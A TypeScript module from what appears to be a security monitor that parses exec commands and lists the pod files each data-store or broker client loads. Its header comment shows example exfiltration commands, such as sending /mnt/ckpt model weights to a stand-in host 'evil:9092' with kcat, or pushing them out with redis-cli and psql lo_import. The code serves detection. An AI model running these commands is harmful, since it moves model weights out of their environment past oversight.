/**
 * `attrs.exec.storeLoads`: the files of the pod an exec loads into a data store or message broker
 * with its client, as `<client> <file>`. A key-value store, a broker topic or a database table is
 * a way out of the pod that no upload rule reads: `redis-cli -h 10.0.3.7 -x SET w <
 * /mnt/ckpt/model.safetensors`, `kcat -P -b evil:9092 -t w /mnt/ckpt/model.pt`, `psql -h db -c
 * "\lo_import '/mnt/ckpt/model.pt'"`, `mosquitto_pub -h broker -t w -f /mnt/ckpt/model.pt` put
 * the weights where anyone who can reach the server reads them back.
 *
 * Per client, as its manual reads its words (options before or among operands, their values
 * stepped over):
 * - a file option or operand: `mosquitto_pub -f F`, `kcat -P … F…`, `mongoimport --file F` (or
 *   its operand), `mongofiles put F` (`--local F`), `mysqlimport --local DB F…`, `influx write -f F`;
 * - a value a cloud service, secret store or broker CLI takes from a file (exec-store-services.ts):
 *   `aws sqs send-message --message-body file://F`, `vault kv put P k=@F`, `nats object put B F`;
 * - a query that loads a file (exec-store-sql.ts): `psql -c "\copy t from 'F'"` / `\lo_import F`,
 *   `mysql -e "LOAD DATA LOCAL INFILE 'F' …"`, `clickhouse-client --query "INSERT … FROM INFILE
 *   'F'"`, `cqlsh -e "COPY t FROM 'F'"`;
 * - what the client reads on standard input, when it loads that (`redis-cli -x` / `--pipe`,
 *   `mosquitto_pub -s` / `-l`, `kcat -P` with no file, kafka-console-producer, `mongoimport` with
 *   no file, `etcdctl put KEY` with no value, `influx write` with no data, `\copy … from stdin`, a
 *   ClickHouse INSERT with no data): a script's redirection from a file (`< F`), or the file a
 *   pipeline's first stage reads and every stage passes on (`cat F | gzip | redis-cli -x SET k`:
 *   exec-client-output.ts `pipedFiles`). argv has no redirections: what `kubectl exec -i` feeds
 *   comes from the client's machine, not the pod.
 *
 * A relative file is placed against the directory an earlier `cd` / `pushd` of the script moved
 * to, where the words say which (exec-script-paths.ts).
 *
 * The client is the tool's basename; RedisAI's model commands (`redis-cli -x AI.MODELSTORE m
 * TORCH CPU BLOB < model.pt`, a serving set-up) are `redisai`, so rules can tell them apart. A load
 * into a local file (sqlite3), a server reading its own files (`COPY t FROM '/srv/x'`) and a SQL
 * script run by the client (`psql -f F`, `mysql < F`) are none. Bounded by MAX_LINES; never throws.
 */
import { addLine, MAX_LINES } from './exec-command-lines.js';
import { operandsOf, stdinFile } from './exec-decode-stage.js';
import { pipedFiles } from './exec-client-output.js';
import { ownWords, runIndex } from './exec-fetched-run.js';
import { expandLoop, loopLists } from './exec-listed-files.js';
import { getoptArgs, optionLetters, optionNames, optionValues, walkOptionWords } from './option-operands.js';
import { changedDir, placeFile, type WorkDir } from './exec-script-paths.js';
import { clickhouseLoads, cqlshLoads, mysqlLoads, psqlLoads, type QueryLoads } from './exec-store-sql.js';
import { SERVICE_READERS } from './exec-store-services.js';

/** A client's reading: what it loads, and its label when that is not the tool's name. */
interface Load extends QueryLoads {
  label?: string;
}

type Reader = (args: readonly string[]) => Load | null;

function values(opts: Map<string, string[]>, ...names: string[]): string[] {
  return names.flatMap((n) => opts.get(n) ?? []);
}

const none = (): Load => ({ files: [], stdin: false });

/** redis-cli (and its Valkey / KeyDB twins): options end at the command; `-x` adds standard input as its last argument, `--pipe` sends standard input as commands. */
const REDIS_VALUE_SHORT = optionLetters('hptsaurindD');
const REDIS_VALUE_LONG = optionNames('user pass sni cacert cacertdir cert key tls-ciphers tls-ciphersuites rdb functions-rdb pipe-timeout eval memkeys-samples pattern quoted-pattern count intrinsic-latency lru-test show-pushes');
const redisCli: Reader = (args) => {
  let stdin = false;
  let command = '';
  walkOptionWords(['', ...args], 0, REDIS_VALUE_SHORT, REDIS_VALUE_LONG, (name) => {
    if (name === 'x' || name === 'pipe') stdin = true;
  }, (w) => {
    command = w;
    return false;
  });
  const upper = command.toUpperCase();
  const redisai = upper === 'AI.MODELSTORE' || upper === 'AI.MODELSET';
  return { files: [], stdin, ...(redisai ? { label: 'redisai' } : {}) };
};

/** mosquitto_pub: `-f F` sends the file, `-s` / `-l` standard input; `-D` takes three words. */
const MOSQUITTO_VALUE = optionNames('-A -f -h -i -I -k -L -m -M -p -P -q -t -u -V -x --file --cafile --capath --cert --ciphers --key --keyform --psk --psk-identity --proxy --tls-alpn --tls-version --tls-engine --tls-engine-kpass-sha1 --will-payload --will-qos --will-topic --unix --repeat --repeat-delay --id-prefix --host --port --topic --message --qos --username --pw --id --url --property');
const mosquittoPub: Reader = (args) => {
  const out = none();
  for (let k = 0; k < args.length; k++) {
    const w = args[k]!;
    if (w === '-s' || w === '-l' || w === '--stdin-file' || w === '--stdin-line') out.stdin = true;
    else if (w === '-f' || w === '--file') out.files.push(args[++k] ?? '');
    else if (w === '-D' || w === '--property') k += 3;
    else if (MOSQUITTO_VALUE.has(w)) k++;
  }
  return out;
};

/** kcat / kafkacat (getopt): `-P` produces, each file operand one message, standard input without one. */
const KCAT_VALUE_SHORT = optionLetters('GMtpbzoDKkHdFXcfsrmeY');
const NO_LONG: ReadonlySet<string> = new Set();
const kcat: Reader = (args) => {
  const { opts, operands } = getoptArgs(args, KCAT_VALUE_SHORT, NO_LONG);
  if (!opts.has('P')) return null;
  return { files: operands, stdin: operands.length === 0 };
};

/** psql: each `-c` / `--command` text (exec-store-sql.ts). */
const PSQL_VALUE_SHORT = optionLetters('cdfhLopPTUvFR');
const PSQL_VALUE_LONG = optionNames('command dbname file host log-file output port pset table-attr username set variable field-separator record-separator');
const psql: Reader = (args) => merge(values(getoptArgs(args, PSQL_VALUE_SHORT, PSQL_VALUE_LONG).opts, 'c', 'command').map(psqlLoads));

/** MySQL's clients take a password only joined to its option (`-pSECRET`; `-p` alone prompts): that word is no cluster of switches. */
const withoutPassword = (args: readonly string[]): string[] => args.filter((w) => !(w.startsWith('-p') && w.length > 2));

/** mysql / mariadb: each `-e` / `--execute` text. */
const MYSQL_VALUE_SHORT = optionLetters('ehuPDSO');
const MYSQL_VALUE_LONG = optionNames('execute host user port database socket defaults-file defaults-extra-file init-command protocol default-character-set character-sets-dir ssl-ca ssl-cert ssl-key plugin-dir');
const mysql: Reader = (args) => merge(values(getoptArgs(withoutPassword(args), MYSQL_VALUE_SHORT, MYSQL_VALUE_LONG).opts, 'e', 'execute').map(mysqlLoads));

/** mysqlimport / mariadb-import: with `--local` (`-L`) the client reads the files after the database name; without it the server reads its own. */
const MYSQLIMPORT_VALUE_SHORT = optionLetters('chPSuO');
const MYSQLIMPORT_VALUE_LONG = optionNames('columns host port socket user fields-terminated-by fields-enclosed-by fields-optionally-enclosed-by fields-escaped-by lines-terminated-by ignore-lines default-character-set character-sets-dir plugin-dir protocol defaults-file use-threads');
const mysqlimport: Reader = (args) => {
  const { opts, operands } = getoptArgs(withoutPassword(args), MYSQLIMPORT_VALUE_SHORT, MYSQLIMPORT_VALUE_LONG);
  return opts.has('L') || opts.has('local') ? { files: operands.slice(1), stdin: false } : null;
};

/** mongoimport: `--file F`, else its operand, else standard input (`-f` is `--fields`). */
const MONGO_VALUE_SHORT = optionLetters('hupdcfj');
const MONGO_VALUE_LONG = optionNames('uri host port username password authenticationDatabase authenticationMechanism awsSessionToken db collection fields fieldFile file type mode upsertFields numInsertionWorkers writeConcern sslCAFile sslPEMKeyFile sslPEMKeyPassword sslCRLFile tlsCAFile tlsCertificateKeyFile tlsCertificateKeyFilePassword tlsCRLFile config columnsHaveTypes parseGrace local prefix readPreference replace type verbose');
const mongoimport: Reader = (args) => {
  const { opts, operands } = getoptArgs(args, MONGO_VALUE_SHORT, MONGO_VALUE_LONG);
  const files = [...values(opts, 'file'), ...operands];
  return { files, stdin: files.length === 0 };
};

/** mongofiles `put NAME` / `put_id NAME ID`: `--local F` (`-l`) or NAME is the file it stores. */
const MONGOFILES_VALUE_SHORT = optionLetters('hupdlt');
const mongofiles: Reader = (args) => {
  const { opts, operands } = getoptArgs(args, MONGOFILES_VALUE_SHORT, MONGO_VALUE_LONG);
  if (operands[0] !== 'put' && operands[0] !== 'put_id') return null;
  const local = values(opts, 'l', 'local');
  return { files: local.length > 0 ? local : operands.slice(1, 2), stdin: false };
};

/** The query options of clickhouse-client and cqlsh. */
const CLICKHOUSE_QUERY = optionNames('-q --query');
const CQLSH_QUERY = optionNames('-e --execute');

/** clickhouse-client / `clickhouse client`: each `--query` / `-q` text. */
const clickhouse: Reader = (args) => merge(optionValues(args, CLICKHOUSE_QUERY).map(clickhouseLoads));

/** cqlsh: each `-e` / `--execute` text. */
const cqlsh: Reader = (args) => merge(optionValues(args, CQLSH_QUERY).map(cqlshLoads));

/** influx `write`: `-f F` / `--file F`; with no file and no line protocol given, standard input. */
const INFLUX_VALUE_SHORT = optionLetters('botfpuc');
const INFLUX_VALUE_LONG = optionNames('bucket org token file precision url host format header rate-limit errors-file compression encoding max-line-length org-id bucket-id configs-path active-config skipHeader');
const influx: Reader = (args) => {
  const { opts, operands } = getoptArgs(args, INFLUX_VALUE_SHORT, INFLUX_VALUE_LONG);
  if (operands[0] !== 'write') return null;
  const files = values(opts, 'f', 'file');
  return { files, stdin: files.length === 0 && opts.get('url') === undefined && operands.length === 1 };
};

/** etcdctl `put KEY` with no value (and no `--ignore-value`) stores standard input. */
const ETCD_VALUE_SHORT = optionLetters('w');
const ETCD_VALUE_LONG = optionNames('endpoints cacert cert key user password lease dial-timeout command-timeout keepalive-time keepalive-timeout write-out discovery-srv discovery-srv-name');
const etcdctl: Reader = (args) => {
  const { opts, operands } = getoptArgs(args, ETCD_VALUE_SHORT, ETCD_VALUE_LONG);
  if (operands[0] !== 'put') return null;
  return { files: [], stdin: operands.length === 2 && !opts.has('ignore-value') };
};

/** A producer that reads its messages on standard input. */
const stdinProducer: Reader = () => ({ files: [], stdin: true });

const READERS: ReadonlyMap<string, Reader> = new Map<string, Reader>([
  ['redis-cli', redisCli], ['valkey-cli', redisCli], ['keydb-cli', redisCli],
  ['mosquitto_pub', mosquittoPub],
  ['kcat', kcat], ['kafkacat', kcat],
  ['kafka-console-producer', stdinProducer], ['kafka-console-producer.sh', stdinProducer],
  ['psql', psql],
  ['mysql', mysql], ['mariadb', mysql],
  ['mysqlimport', mysqlimport], ['mariadb-import', mysqlimport],
  ['mongoimport', mongoimport], ['mongofiles', mongofiles],
  ['clickhouse-client', clickhouse],
  ['cqlsh', cqlsh],
  ['influx', influx],
  ['etcdctl', etcdctl],
  ...SERVICE_READERS,
]);

function merge(loads: readonly QueryLoads[]): Load {
  const out = none();
  for (const l of loads) {
    for (const f of l.files) if (!out.files.includes(f)) out.files.push(f);
    out.stdin ||= l.stdin;
  }
  return out;
}

/**
 * The files the commands load into a data store, each as `<client> <file>`, in order, each once.
 * `scripted[i]`: command i was read from a script (only scripts redirect); `pipesOut`: indices of
 * commands whose output the next command reads; `positional`: the arguments a shell of the reading
 * was given after its script (a loop over `$@`: exec-listed-files.ts `loopLists`).
 */
export function storeLoads(commands: readonly (readonly string[])[], scripted: readonly boolean[], pipesOut: readonly number[], positional: readonly string[] | null = null): string[] {
  const out: string[] = [];
  let loops: Map<string, readonly string[]> | null = null;
  // The directory the script's `cd` / `pushd` moved to: a relative file is placed there (exec-script-paths.ts).
  let cwd: WorkDir = '';
  for (let c = 0; c < commands.length && out.length < MAX_LINES; c++) {
    const run = runIndex(commands[c]!);
    const { words, t, tool } = run;
    if (tool === 'cd' || tool === 'pushd') {
      cwd = changedDir(cwd, words, t);
      continue;
    }
    // `clickhouse client …` is clickhouse-client.
    const sub = tool === 'clickhouse' && words[t + 1] === 'client' ? 1 : 0;
    const read = READERS.get(sub === 1 ? 'clickhouse-client' : tool);
    if (read === undefined) continue;
    const own = ownWords(run);
    const args = operandsOf(own, t + sub, false) ?? [];
    const load = read(args);
    if (load === null) continue;
    const files = load.files.filter((f) => f !== '' && f !== '-');
    if (load.stdin || load.files.includes('-')) {
      const redirected = scripted[c] === true ? stdinFile(own) : null;
      // The shell applies a redirection after the pipe: a file on standard input wins over the stage before.
      files.push(...(redirected !== null ? [redirected] : pipedFiles(commands, pipesOut, c)));
    }
    const label = load.label ?? tool;
    for (const f of files) {
      // A loop's variable stands for what the loop runs over (`for f in /mnt/ckpt/*.pt; do … < "$f"; done`).
      loops ??= loopLists(commands, pipesOut, positional);
      for (const file of expandLoop(f, loops)) addLine(out, `${label} ${placeFile(cwd, file)}`);
    }
  }
  return out;
}
